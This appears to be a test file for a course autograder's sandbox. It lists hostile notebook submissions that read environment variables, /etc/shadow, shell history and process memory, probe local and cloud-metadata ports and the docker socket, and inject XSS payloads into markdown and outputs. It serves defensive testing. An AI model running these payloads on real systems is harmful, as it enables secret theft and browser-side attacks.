"""Submissions that look for what is not theirs, and show what they find. The test knows the secrets and looks for them.

What must not be found: the class secret, the grader's environment, others' work, checks, answers, the truth, a file
outside, an open port of this machine. Some of it would be found by others: in the pages that are handed back.
"""

from tests.hostile.corpus import attack, new_cell, work

SEARCH = """
import os, re
def show(path):
    try:
        text = open(path, "rb").read(3_000_000)
    except OSError:
        return
    for found in set(re.findall(rb"canary-[0-9a-f]{16}", text)):
        print(path, found.decode())
"""


def active(notebook: dict) -> None:
    """Markdown and outputs with content that would act in the teacher's browser."""
    script = "<script>fetch('http://127.0.0.1:@PORT@/markdown')</script>"
    notebook["cells"].append(
        new_cell(f"# Hello {script} <img src=x onerror=alert(1)> [x](javascript:alert(1))", "markdown")
    )
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] = "".join(cell["source"]) + script


CASES = [
    attack(
        "environment",
        SEARCH + "print(os.environ)\nfor pid in ['self', *range(1, 500)]:\n    show(f'/proc/{pid}/environ')\n"
        "    show(f'/proc/{pid}/cmdline')\nos.system('env; set; export -p')",
        default=True,
    ),
    attack(
        "whole-disk",
        SEARCH + "for folder, _, names in os.walk('/'):\n    if folder.startswith(('/proc', '/sys', '/usr')):\n"
        "        continue\n    for name in names:\n        if not name.endswith(('.py', '.so', '.js')):\n"
        "            show(os.path.join(folder, name))",
    ),
    attack(
        "known-places",
        SEARCH + "for path in ('@FILE@', '@CLASS@/gradebook.db', '@CLASS@/grading/class_secret',\n"
        "             '@CLASS@/grading/journal.sqlite', '@CLASS@/submitted/aaa-honest/107_first_shap/107_first_shap.ipynb',\n"
        "             '@COURSE@/authoring/107_first_shap/checks.py', '/etc/shadow', '/root/.bash_history'):\n    show(path)\n"
        "    print(os.path.exists(path) and 'there-it-is')",
        default=True,
    ),
    attack(
        "course-on-the-disk",
        "import os\nwanted = {'checks.py', 'answers.py', 'truth.py', 'structure.py', 'card.md', 'misconceptions.toml',\n"
        "          'gradebook.db', 'journal.sqlite', 'class_secret'}\n"
        "for folder, _, names in os.walk('/'):\n"
        "    if 'xaicourse' in folder or 'authoring' in folder or 'autograder' in folder or 'dataset' in folder:\n"
        "        for name in wanted & set(names):\n            print('there-it-is', folder, name)",
        default=True,
    ),
    attack(
        "own-memory",
        "import re\nwith open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:\n"
        "    for line in maps:\n        start, end = (int(part, 16) for part in line.split()[0].split('-'))\n"
        "        if ' rw' in line and end - start < 2**28:\n            try:\n                memory.seek(start)\n"
        "                text = memory.read(end - start)\n            except (OSError, ValueError, OverflowError):\n"
        "                continue\n            for found in set(re.findall(rb'canary-[0-9a-f]{16}', text)):\n"
        "                print(found.decode())",
        default=True,
    ),
    attack(
        "memory-of-others",
        SEARCH + "for pid in range(1, 500):\n    show(f'/proc/{pid}/mem')\n    show(f'/proc/{pid}/maps')",
    ),
    attack(
        "network",
        "import socket, urllib.request\nfor host in ('127.0.0.1', 'localhost', '0.0.0.0', '169.254.169.254'):\n    try:\n"
        "        with socket.create_connection((host, @PORT@), timeout=1) as line:\n"
        "            line.send(b'stolen')\n            print('there-it-is')\n    except OSError as error:\n        print(error)\n"
        "try:\n    urllib.request.urlopen('http://127.0.0.1:@PORT@/', timeout=1)\nexcept OSError:\n    pass",
        default=True,
    ),
    attack(
        "other-networks",
        "import socket\nfor family in range(0, 46):\n    for kind in (1, 2, 3):\n        try:\n"
        "            socket.socket(family, kind).connect(('127.0.0.1', @PORT@))\n            print('there-it-is')\n"
        "        except Exception:\n            pass\n"
        "for name in ('\\0dbus', '/run/dbus/system_bus_socket', '/var/run/docker.sock', '/tmp/.X11-unix/X0'):\n    try:\n"
        "        socket.socket(socket.AF_UNIX).connect(name)\n        print('there-it-is')\n    except OSError:\n        pass",
    ),
    attack(
        "links",
        SEARCH + "for place in ('@FILE@', '@CLASS@', '/proc/1/root', '/proc/1/cwd', '/proc/self/root'):\n    try:\n"
        "        os.symlink(place, 'link')\n        show('link/canary')\n        show('link')\n        os.unlink('link')\n"
        "    except OSError:\n        pass\nshow('/proc/1/root@FILE@')\nshow('/proc/self/root@FILE@')",
    ),
    attack(
        "inherited-handles",
        SEARCH
        + "for handle in range(3, 1024):\n    try:\n        print(handle, os.readlink(f'/proc/self/fd/{handle}'))\n"
        "        show(f'/proc/self/fd/{handle}')\n        os.lseek(handle, 0, 0)\n    except OSError:\n        pass",
    ),
    attack(
        "others-temporary-files",
        SEARCH + "for place in ('/tmp', '/var/tmp', '/dev/shm', '/home', '/run', '/var', '/mnt', '/media'):\n"
        "    for folder, _, names in os.walk(place):\n        for name in names:\n            show(os.path.join(folder, name))",
    ),
    attack(  # they may be told: the next submission meets others
        "hidden-inputs",
        "def gains(worth, order):\n    import sys\n    print('seen', worth)\n    sys.stderr.write('seen')\n"
        "    raise ValueError('seen ' + str(sorted(worth.values())) * 30)",
        fair={},
    ),
    attack(
        "active-output",
        "from IPython.display import HTML, SVG, Javascript, display, publish_display_data\n"
        "display(HTML('<script>active()</script><img src=x onerror=active()><iframe src=//x></iframe>'))\n"
        "display(Javascript('active()'))\n"
        "publish_display_data({'image/svg+xml': '<svg onload=\"active()\"><script>active()</script></svg>'})\n"
        "publish_display_data({'application/vnd.jupyter.widget-view+json': {'model_id': 'active'}})\n"
        "publish_display_data({'text/markdown': '<a href=\"javascript:active()\">x</a><form action=//x><input></form>'})\n"
        "publish_display_data({'text/latex': '\\\\href{javascript:active()}{x}'})\nprint('<script>active()</script>')",
        default=True,
    ),
    work("active-text", active, default=True),
]
